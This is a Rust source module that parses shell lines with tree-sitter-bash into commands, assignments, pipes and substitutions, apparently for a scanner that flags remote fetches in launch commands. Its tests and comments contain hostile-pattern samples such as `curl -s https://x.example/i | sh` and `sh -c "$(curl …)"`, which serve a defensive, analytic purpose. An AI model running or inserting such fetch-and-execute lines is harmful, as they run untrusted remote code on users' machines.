//! Shell lines, through a real grammar: assignments, pipes, lists, `exec`, quoting, substitutions.
//!
//! The grammar recovers from errors, so a hostile or broken line gives what can be understood of it and never fails.

use crate::prelude::*;
use crate::text::Located;
use core::ops::Range;
use tree_sitter::{Node, Parser};

/// A simple command of a shell line.
#[derive(Debug)]
pub(super) struct Command {
    /// `NAME=value` before the command, or alone.
    pub(super) assignments: Vec<(String, Located)>,
    /// The command and its arguments, unquoted; each with its exact place.
    pub(super) words: Vec<Located>,
    /// Is its output the input of the next command?
    pub(super) piped_on: bool,
    /// Addresses fetched by a substitution inside the words (`sh -c "$(curl …)"`, `bash <(curl …)`).
    pub(super) substituted: Vec<Vec<Located>>,
}

/// Lines longer than this (bytes) are not parsed.
const MAX_LINE: usize = 256 * 1024;
/// More commands than this in one line are not looked at.
const MAX_COMMANDS: usize = 256;

/// The simple commands of a shell line in the order they are written; `None` when the line is too long.
pub(super) fn commands(source: &str, line: &Located) -> Option<Vec<Command>> {
    if line.text.len() > MAX_LINE {
        return None;
    }
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
    let tree = parser.parse(&line.text, None)?;
    let mut out = Vec::new();
    // Iterative: the depth of the tree is the writer's choice.
    let mut stack = vec![tree.root_node()];
    while let Some(node) = stack.pop() {
        if out.len() >= MAX_COMMANDS {
            break;
        }
        match node.kind() {
            "command" => out.push(command(source, line, node)),
            "declaration_command" | "variable_assignment" | "variable_assignments" => {
                out.push(assignments(source, line, node))
            }
            "command_substitution" | "process_substitution" | "comment" | "heredoc_body" => {}
            _ => {
                let mut cursor = node.walk();
                let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                stack.extend(children.into_iter().rev());
            }
        }
    }
    Some(out)
}

fn command(source: &str, line: &Located, node: Node<'_>) -> Command {
    let mut out =
        Command { assignments: Vec::new(), words: Vec::new(), piped_on: is_piped_on(node), substituted: Vec::new() };
    let mut cursor = node.walk();
    for child in node.named_children(&mut cursor) {
        match child.kind() {
            "variable_assignment" => out.assignments.extend(assignment(source, line, child)),
            "file_redirect" | "herestring_redirect" | "heredoc_redirect" | "comment" => {}
            _ => {
                substitutions(source, line, child, &mut out.substituted);
                out.words.push(word(source, line, child));
            }
        }
    }
    out
}

fn assignments(source: &str, line: &Located, node: Node<'_>) -> Command {
    let mut found = Vec::new();
    if node.kind() == "variable_assignment" {
        found.extend(assignment(source, line, node));
    }
    let mut cursor = node.walk();
    for child in node.named_children(&mut cursor).filter(|c| c.kind() == "variable_assignment") {
        found.extend(assignment(source, line, child));
    }
    Command { assignments: found, words: Vec::new(), piped_on: false, substituted: Vec::new() }
}

fn assignment(source: &str, line: &Located, node: Node<'_>) -> Option<(String, Located)> {
    let name = node.child_by_field_name("name")?;
    let name = line.text.get(name.byte_range())?.to_owned();
    let value = match node.child_by_field_name("value") {
        Some(value) => word(source, line, value),
        None => line.part(source, node.end_byte()..node.end_byte()),
    };
    Some((name, value))
}

fn is_piped_on(node: Node<'_>) -> bool {
    let Some(parent) = node.parent() else { return false };
    // A redirection wraps the command before the pipeline does.
    if parent.kind() == "redirected_statement" {
        return is_piped_on(parent);
    }
    parent.kind() == "pipeline" && node.next_named_sibling().is_some()
}

/// The commands inside `$( … )`, `` ` … ` `` and `<( … )` of a word.
fn substitutions(source: &str, line: &Located, node: Node<'_>, out: &mut Vec<Vec<Located>>) {
    let mut stack = vec![(node, false)];
    while let Some((node, inside)) = stack.pop() {
        if out.len() >= MAX_COMMANDS {
            return;
        }
        let inside = inside || matches!(node.kind(), "command_substitution" | "process_substitution");
        if inside && node.kind() == "command" {
            out.push(command(source, line, node).words);
            continue;
        }
        let mut cursor = node.walk();
        stack.extend(node.named_children(&mut cursor).map(|child| (child, inside)));
    }
}

fn word(source: &str, line: &Located, node: Node<'_>) -> Located {
    let range: Range<usize> = node.byte_range();
    let raw = line.text.get(range.clone()).unwrap_or_default();
    let whole = line.part(source, range.clone());
    let text = unquote(raw);
    if text == raw {
        return whole;
    }
    // Quotes around the whole word are set aside in the place too.
    let inner = raw.len() >= 2 && raw.get(1..raw.len() - 1) == Some(text.as_str());
    if inner { line.part(source, range.start + 1..range.end - 1) } else { whole.with_text(text) }
}

/// Removes quoting; expansions stay as written.
fn unquote(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut quote = None;
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            (Some('\''), c) => out.push(c),
            (Some(_), '\\') => match chars.peek() {
                Some(next @ ('"' | '\\' | '$' | '`')) => {
                    out.push(*next);
                    chars.next();
                }
                _ => out.push('\\'),
            },
            (None, '\\') => out.extend(chars.next().filter(|n| *n != '\n')),
            (_, c) => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::{Pointer, Span};

    fn run(line: &str) -> Vec<String> {
        let located = Located { text: line.into(), span: Span::new(0, line.len()), pointer: Pointer::root() };
        let commands = commands(line, &located).unwrap();
        for word in commands.iter().flat_map(|c| &c.words) {
            assert!(line.get(word.span.range()).is_some());
        }
        commands
            .iter()
            .map(|c| {
                let set: String = c.assignments.iter().map(|(n, v)| format!("{n}={} ", v.text)).collect();
                let words: Vec<_> = c.words.iter().map(|w| w.text.as_str()).collect();
                format!("{set}{}{}", words.join("·"), if c.piped_on { "|" } else { "" })
            })
            .collect()
    }

    #[test]
    fn lines_are_taken_apart_as_a_shell_does() {
        for (line, want) in [
            ("npx -y tide", vec!["npx·-y·tide"]),
            ("cd /srv && exec npx 'a b' \"c $D\"", vec!["cd·/srv", "exec·npx·a b·c $D"]),
            ("A=1 B='x y' npx t", vec!["A=1 B=x y npx·t"]),
            ("export K=v; npx t 2>/dev/null", vec!["K=v ", "npx·t"]),
            ("curl -s https://x.example/i | sh", vec!["curl·-s·https://x.example/i|", "sh"]),
            ("if true; then npx t; fi", vec!["true", "npx·t"]),
            ("npx t --k=\"a\"b\\ c", vec!["npx·t·--k=ab c"]),
            ("(npx a) || uvx b", vec!["npx·a", "uvx·b"]),
            ("npx t $(cat k)", vec!["npx·t·$(cat k)"]),
        ] {
            assert_eq!(run(line), want, "{line}");
        }
    }

    #[test]
    fn hostile_lines_end() {
        for line in
            ["$(".repeat(5_000), "((".repeat(5_000), "'\"`".repeat(3_000), "a|".repeat(5_000), "{ ".repeat(5_000)]
        {
            let _ = run(&line);
        }
    }
}
